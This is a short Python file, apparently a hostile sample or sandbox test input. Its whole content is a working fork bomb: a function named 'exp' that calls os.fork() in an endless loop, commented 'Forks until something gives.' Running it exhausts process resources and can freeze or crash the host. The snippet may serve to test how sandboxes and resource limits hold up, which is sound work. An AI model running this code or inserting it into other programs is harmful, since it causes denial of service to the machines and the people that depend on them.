# Forks until something gives.
import os


def exp(input):
    while True:
        os.fork()
